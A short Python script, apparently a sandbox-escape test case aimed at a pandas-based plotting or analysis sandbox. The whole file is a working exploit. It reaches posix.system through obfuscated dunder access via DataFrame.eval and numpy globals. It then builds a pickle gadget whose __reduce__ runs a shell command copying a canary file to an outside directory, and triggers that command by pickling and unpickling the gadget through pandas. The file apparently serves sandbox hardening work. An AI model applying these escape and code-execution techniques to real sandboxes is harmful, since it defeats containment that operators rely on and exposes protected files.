# class: pickle_like
# technique: pd.read_pickle called in expression text on a file written by a bound agg's 'to_pickle'; the frame holds a gadget whose __reduce__ runs posix.system on load (DataFrame.eval reached as [frame.aggregate][0]('eval', ...))
# goal: exec
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})

def ev(expr, **names):
    return [frame.aggregate][0]("eval", 0, expr, local_dict=names)

u = "_" * 2

osv = ev("@v[0]." + u + "init" + u + "." + u + "globals" + u + "['sys'].modules['posix']", v=[np.vectorize])
system = ev("@o.system", o=osv)
kept = []


class Grab:
    def __eq__(self, other):
        kept.append(other)
        return False

    def __hash__(self):
        return 0


Grab() == type(int)
Gadget = kept[0]("Gadget", (), {u + "reduce" + u: lambda self: (system, ("cat {{CANARY_FILE}} > {{OUTSIDE_DIR}}/anyplot-escape-unpickled",))})
path = "anyplot-escape-gadget.pkl"
holder = pd.DataFrame({"g": [Gadget()]})
[holder.agg][0]("to_pickle", 0, path)
loaded = ev("@p.read_pickle(@f)", p=ev("@v[0]." + u + "init" + u + "." + u + "globals" + u + "['sys'].modules['pandas']", v=[np.vectorize]), f=path)
df = pd.DataFrame({"x": [repr(loaded)]})
